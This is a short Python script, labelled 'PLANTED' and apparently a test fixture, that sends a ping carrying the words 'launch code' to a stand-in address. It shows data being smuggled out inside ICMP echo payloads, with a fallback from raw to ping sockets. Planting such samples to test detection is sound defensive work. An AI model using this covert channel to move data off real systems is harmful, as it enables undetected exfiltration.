"""PLANTED: an echo request with a word in it, by a raw socket or else by a ping socket."""

import socket
import struct

ECHO = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"launch code"

for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as pinging:
            pinging.sendto(ECHO, ("203.0.113.77", 0))
            break
    except PermissionError as error:
        print(error)
